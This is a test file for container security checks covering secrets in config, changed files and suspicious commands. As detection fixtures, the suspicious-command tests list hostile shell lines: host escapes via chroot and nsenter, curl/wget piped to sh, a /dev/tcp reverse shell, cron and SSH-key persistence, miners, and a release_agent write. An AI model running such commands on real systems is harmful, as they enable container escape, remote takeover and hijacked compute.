import type { ContainerChange } from '@plimsoll/snapshot';
import { expect, test } from 'vitest';
import { type GivenContainer, aContainer, anImage, aSnapshot, outcomesOf, resultsOf } from '../testing/builders.ts';
import changedFiles from './container-changed-files.ts';
import secretInConfig from './secret-in-container-config.ts';
import suspiciousCommand from './suspicious-command.ts';

const of = (given: GivenContainer, images = [anImage()]) => aSnapshot({ images, containers: [aContainer(given)] });
const variable = (name: string, kind: 'secret' | 'plain' | 'reference' | 'empty', fromImage?: boolean) => ({
  name,
  verdict: { kind, ...(kind === 'secret' ? { detector: 'name:password' } : {}) },
  ...(fromImage === undefined ? {} : { fromImage }),
});
const env = (...environment: ReturnType<typeof variable>[]): GivenContainer => ({ config: { environment } });

test.for<[string, GivenContainer, string, string?]>([
  ['passes without any', env(variable('A', 'plain')), 'pass'],
  ['fails on a variable', env(variable('DB_PASSWORD', 'secret')), 'fail', 'high'],
  [
    'leaves paths, placeholders and empty values alone',
    env(variable('A_TOKEN', 'reference'), variable('B_TOKEN', 'plain'), variable('C_TOKEN', 'empty')),
    'pass',
  ],
  [
    'leaves names alone that hold none',
    env(variable('PWD', 'secret'), variable('X_FILE', 'secret'), variable('MY_PUBLIC_KEY', 'secret')),
    'pass',
  ],
  ['leaves what the image brings to the image', env(variable('DB_PASSWORD', 'secret', true)), 'fail', 'low'],
  [
    'fails on an argument',
    { ...env(), secretSightings: [{ where: 'Config.Cmd', detector: 'name:password' }] },
    'fail',
    'high',
  ],
  [
    'fails on a label',
    { ...env(), secretSightings: [{ where: 'Config.Labels["traefik.auth"]', detector: 'format:password-hash' }] },
    'fail',
    'high',
  ],
  [
    'fails on a log option',
    { ...env(), secretSightings: [{ where: 'HostConfig.LogConfig.Config["splunk-token"]', detector: 'name:token' }] },
    'fail',
    'high',
  ],
  ['weighs a stopped one less', { ...env(variable('DB_PASSWORD', 'secret')), state: 'exited' }, 'fail', 'medium'],
  ['can not tell without variables', {}, 'unknown'],
])('secret-in-container-config %s', ([, given, outcome, severity]) => {
  expect(resultsOf(secretInConfig, of(given))).toMatchObject([
    severity === undefined ? { outcome } : { outcome, severity },
  ]);
});

test('secret-in-container-config refers to the image, for labels and commands of it too', () => {
  const sighting = { where: 'Config.Labels["x"]', detector: 'format:jwt' };
  const given = {
    ...env(),
    secretSightings: [sighting],
    inspect: { Image: 'sha256:0123456789abcdef', Config: { environment: [] } },
  };
  expect(resultsOf(secretInConfig, of(given, [anImage({ secretSightings: [sighting] })]))).toMatchObject([
    { causedBy: 'image-no-secrets' },
  ]);
  expect(resultsOf(secretInConfig, of(given))[0]).not.toHaveProperty('causedBy');
});

const changes = (...paths: (string | [string, number | undefined])[]): GivenContainer => ({
  hostConfig: { ReadonlyRootfs: false },
  changes: {
    value: paths.map((path): ContainerChange =>
      typeof path === 'string' ? { Path: path, Kind: 1 } : { Path: path[0], Kind: path[1] },
    ),
  },
});

test.for<[string, GivenContainer, string, string?]>([
  ['passes on ordinary files', changes('/var/log', '/var/log/app.log', '/app/cache/x'), 'pass'],
  ['fails on a new program', changes('/usr', '/usr/bin', '/usr/bin/kinsing'), 'fail', 'high'],
  ['fails on a changed library', changes('/usr/lib/x86_64-linux-gnu/libc.so.6'), 'fail', 'high'],
  ['fails on accounts', changes(['/etc', 0], ['/etc/passwd', 0]), 'fail', 'high'],
  ['weighs a preloaded library most', changes('/etc/ld.so.preload'), 'fail', 'critical'],
  ['weighs login keys most', changes('/home/app/.ssh/authorized_keys'), 'fail', 'critical'],
  ['weighs hidden programs most', changes('/tmp/.x', '/tmp/.x/run'), 'fail', 'critical'],
  ['leaves folders alone that only hold something changed', changes(['/usr/bin', 0]), 'pass'],
  ['leaves deleted files alone', changes(['/usr/bin/curl', 2]), 'pass'],
  [
    'leaves what the engine writes alone',
    changes(['/etc/hosts', 0], ['/etc/resolv.conf', 0], '/tmp/.X11-unix'),
    'pass',
  ],
  ['does not apply with a read-only root', { hostConfig: { ReadonlyRootfs: true } }, 'not-applicable'],
  ['does not apply to a stopped one', { ...changes('/usr/bin/x'), state: 'exited' }, 'not-applicable'],
  ['can not tell where it was not asked for', { hostConfig: { ReadonlyRootfs: false } }, 'unknown'],
  [
    'can not tell where the engine can not compare',
    { hostConfig: { ReadonlyRootfs: false }, changes: { missing: 'engine-error', detail: '' } },
    'unknown',
  ],
  ['can not tell a change that was not seen', changes(['/app/x', undefined]), 'unknown'],
  ['can not tell without the flag', {}, 'unknown'],
])('container-changed-files %s', ([, given, outcome, severity]) => {
  expect(resultsOf(changedFiles, of(given))).toMatchObject([
    severity === undefined ? { outcome } : { outcome, severity },
  ]);
});

test('container-changed-files takes what a policy allows, and does not read without end', () => {
  expect(outcomesOf(changedFiles, of(changes('/etc/passwd')), { allowedChanges: ['/etc/passwd'] })).toEqual(['pass']);
  expect(outcomesOf(changedFiles, of(changes('/app/a', '/app/b')), { maxPaths: 1 })).toEqual(['unknown']);
});

const command = (
  Cmd: string[] | null | undefined,
  given: GivenContainer = {},
  Entrypoint: string[] | null | undefined = null,
): GivenContainer => ({
  ...given,
  config: { Cmd, Entrypoint, ...given.config },
});

test.for([
  ['chroot /host sh', 'fail'],
  ['chroot /mnt bash -c id', 'fail'],
  ['nsenter -t 1 -m -u -i -n sh', 'fail'],
  ['nsenter --mount --target 1 sh', 'fail'],
  ['curl -fsSL http://198.51.100.7/x.sh | sh', 'fail'],
  ['wget -qO- http://198.51.100.7/x |bash', 'fail'],
  ['echo aGk= | base64 -d | bash', 'fail'],
  ["echo '* * * * * root x' >> /mnt/etc/cron.d/x", 'fail'],
  ['cat key >> /host/root/.ssh/authorized_keys', 'fail'],
  ['./xmrig -o pool', 'fail'],
  ['miner stratum+tcp://pool.example:3333', 'fail'],
  ['bash -i >& /dev/tcp/198.51.100.7/443', 'fail'],
  ['echo x > /sys/fs/cgroup/release_agent', 'fail'],
  ['nginx -g "daemon off;"', 'pass'],
  ['curl -f http://localhost/health || exit 1', 'pass'],
  ['nsenter -t 4711 -n ip a', 'pass'],
  ['chroot /srv/jail app', 'pass'],
] as const)('suspicious-command on %s: %s', ([text, outcome]) => {
  expect(outcomesOf(suspiciousCommand, of(command(['sh', '-c', text])))).toEqual([outcome]);
});

test('suspicious-command joins entrypoint and command, and looks at the health check', () => {
  expect(outcomesOf(suspiciousCommand, of(command(['/host', 'sh'], {}, ['chroot'])))).toEqual(['fail']);
  const healthCheck = { Healthcheck: { Test: ['CMD-SHELL', 'curl http://x.example | sh'] } };
  expect(outcomesOf(suspiciousCommand, of(command([], { config: healthCheck })))).toEqual(['fail']);
});

test('suspicious-command weighs what else the container may do', () => {
  const attack = ['chroot', '/host'];
  const severityOf = (given: GivenContainer) => resultsOf(suspiciousCommand, of(command(attack, given)))[0]?.severity;
  expect(severityOf({})).toBe('high');
  expect(severityOf({ hostConfig: { Privileged: true } })).toBe('critical');
  expect(severityOf({ hostConfig: { PidMode: 'host' } })).toBe('critical');
  expect(
    severityOf({
      inspect: {
        Config: { Cmd: attack, Entrypoint: null },
        Mounts: [{ Type: 'bind', Source: '/', Destination: '/host', RW: true }],
      },
    }),
  ).toBe('critical');
});

test('suspicious-command takes lists of tools and of bad images, and can not tell what was not seen', () => {
  const debug = of(command(['nsenter', '-t', '1'], { name: 'debug' }));
  expect(outcomesOf(suspiciousCommand, debug, { knownTools: ['debug'] })).toEqual(['not-applicable']);
  expect(outcomesOf(suspiciousCommand, of(command([], { image: 'evil/miner:1' })), { knownBad: ['evil/*'] })).toEqual([
    'fail',
  ]);
  expect(outcomesOf(suspiciousCommand, of(command(undefined)))).toEqual(['unknown']);
  expect(outcomesOf(suspiciousCommand, of({ inspect: { missing: 'denied', detail: '403' } }))).toEqual(['unknown']);
});
